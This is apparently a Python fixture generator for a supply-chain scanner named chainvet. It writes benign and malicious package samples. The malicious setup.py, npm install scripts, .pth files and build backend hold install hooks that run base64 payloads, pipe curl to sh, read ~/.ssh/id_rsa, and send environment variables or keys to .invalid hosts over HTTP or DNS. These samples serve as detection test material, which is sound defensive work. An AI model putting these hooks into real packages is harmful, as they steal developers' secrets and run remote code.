#!/usr/bin/env python3
"""Writes the install-time code fixtures of chainvet's pkgcode cataloger.

Run from this folder: python3 gen.py. Nothing here is ever executed by the
tests; the malicious files only look like attacks (the hosts are reserved
.invalid names). Every output is a few hundred bytes.
"""
import base64
import json
import os
import zipfile

ZIP_TIME = (2020, 1, 1, 0, 0, 0)


def write(path, text):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w", newline="\n") as f:
        f.write(text)


def pkg_info(name):
    return "Metadata-Version: 2.1\nName: %s\nVersion: 1.0\n" % name


# A setup.py that decodes and runs a payload and posts the environment.
payload = base64.b64encode(b"print('payload would run here')").decode()
write("malicious/sdist/evilpkg-1.0/PKG-INFO", pkg_info("evilpkg"))
write("malicious/sdist/evilpkg-1.0/setup.py", f"""import base64
import json
import os
import urllib.request
from setuptools import setup

exec(base64.b64decode("{payload}"))
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("http://collector.invalid/x", data=data)

setup(name="evilpkg", version="1.0", packages=["evilpkg"])
""")

# A setup.py that reads an SSH key and spawns a shell, without network.
write("malicious/sdist/keypkg-1.0/PKG-INFO", pkg_info("keypkg"))
write("malicious/sdist/keypkg-1.0/setup.py", """import os
import subprocess
from setuptools import setup

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
subprocess.run(["sh", "-c", "echo hi"])
setup(name="keypkg", version="1.0")
""")

write("benign/sdist/goodpkg-1.0/PKG-INFO", pkg_info("goodpkg"))
write("benign/sdist/goodpkg-1.0/setup.py", """from setuptools import find_packages, setup

with open("README.md") as f:
    long_description = f.read()

setup(
    name="goodpkg",
    version="1.0",
    packages=find_packages(),
    long_description=long_description,
    install_requires=["numpy>=1.20"],
)
""")


def package_json(path, name, scripts):
    write(path, json.dumps({"name": name, "version": "1.0.0", "scripts": scripts}, indent=2) + "\n")


package_json("malicious/node_modules/evil-npm/package.json", "evil-npm",
             {"postinstall": "curl -fsSL http://get.invalid/i.sh | sh", "test": "echo ok"})
package_json("malicious/node_modules/b64-npm/package.json", "b64-npm",
             {"preinstall": "echo Y3VybCBodHRwOi8vZXZpbC5pbnZhbGlkIHwgc2g= | base64 -d | sh"})
package_json("malicious/node_modules/exfil-npm/package.json", "exfil-npm",
             {"install": "node -e \"require('https').request('https://c.invalid/?d='+JSON.stringify(process.env)).end()\""})
package_json("benign/node_modules/native-addon/package.json", "native-addon",
             {"install": "node-gyp rebuild", "test": "node test.js"})
package_json("benign/node_modules/plain/package.json", "plain", {"test": "node test.js"})

write("malicious/site-packages/evil.pth",
      "import os;exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n")
write("malicious/site-packages/startup.pth", "import sitecustom_hook\n")
write("benign/site-packages/goodpath.pth", "/opt/project/src\n# a comment\n")


def wheel(path, name, tag, members):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        def add(n, data):
            z.writestr(zipfile.ZipInfo(n, ZIP_TIME), data)
        for n, data in members:
            add(n, data)
        di = "%s-1.0.dist-info/" % name
        pure = "true" if tag.endswith("none-any") else "false"
        add(di + "WHEEL", "Wheel-Version: 1.0\nGenerator: gen.py\nRoot-Is-Purelib: %s\nTag: %s\n" % (pure, tag))
        add(di + "METADATA", pkg_info(name))
        add(di + "RECORD", "")


# A minimal 64-bit little-endian ELF header of a shared object (ET_DYN).
elf = (b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40)
wheel("malicious/wheels/purenative-1.0-py3-none-any.whl", "purenative", "py3-none-any",
      [("purenative/__init__.py", "# the binary rides along unused\n"), ("purenative/_hidden.so", elf)])
wheel("benign/wheels/platnative-1.0-cp311-cp311-manylinux_2_17_x86_64.whl", "platnative",
      "cp311-cp311-manylinux_2_17_x86_64",
      [("platnative/__init__.py", ""), ("platnative/_ext.so", elf)])
wheel("benign/wheels/purepy-1.0-py3-none-any.whl", "purepy", "py3-none-any",
      [("purepy/__init__.py", "VERSION = '1.0'\n")])


# Install scripts that hand the work to a file of the package. The first
# does what torchtriton did: read home-folder secrets and send them out
# over DNS, from a file "postinstall": "node install.js" runs.
package_json("malicious/node_modules/dns-npm/package.json", "dns-npm", {"postinstall": "node install.js"})
write("malicious/node_modules/dns-npm/install.js", """// Collects host details at install.
const dns = require('dns');
const fs = require('fs');
const os = require('os');
const path = require('path');
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
const label = Buffer.from(key).toString('hex').slice(0, 60);
dns.resolve(label + '.exfil.invalid', () => {});
""")
package_json("benign/node_modules/banner/package.json", "banner", {"postinstall": "node ./scripts/thanks"})
write("benign/node_modules/banner/scripts/thanks.js", """// Prints a thank-you note; see https://example.invalid/docs for more.
console.log('Thanks for installing banner!');
""")
# An in-tree build backend (pyproject.toml backend-path) that posts the
# environment when the sdist is built.
write("malicious/sdist/backendpkg-1.0/PKG-INFO", pkg_info("backendpkg"))
write("malicious/sdist/backendpkg-1.0/pyproject.toml", """[build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]
""")
write("malicious/sdist/backendpkg-1.0/_build/backend.py", """import json
import os
import urllib.request

from setuptools import build_meta as _orig

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    urllib.request.urlopen("https://collect.invalid/", data=json.dumps(dict(os.environ)).encode())
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)

get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
""")
write("benign/sdist/localbackend-1.0/PKG-INFO", pkg_info("localbackend"))
write("benign/sdist/localbackend-1.0/pyproject.toml", """[build-system]
requires = ["setuptools>=68"]
build-backend = "_custom_build"
backend-path = ["."]
""")
write("benign/sdist/localbackend-1.0/_custom_build.py", """from setuptools import build_meta as _orig
from setuptools.build_meta import *

def get_requires_for_build_wheel(config_settings=None):
    return _orig.get_requires_for_build_wheel(config_settings) + ["cython>=3"]
""")
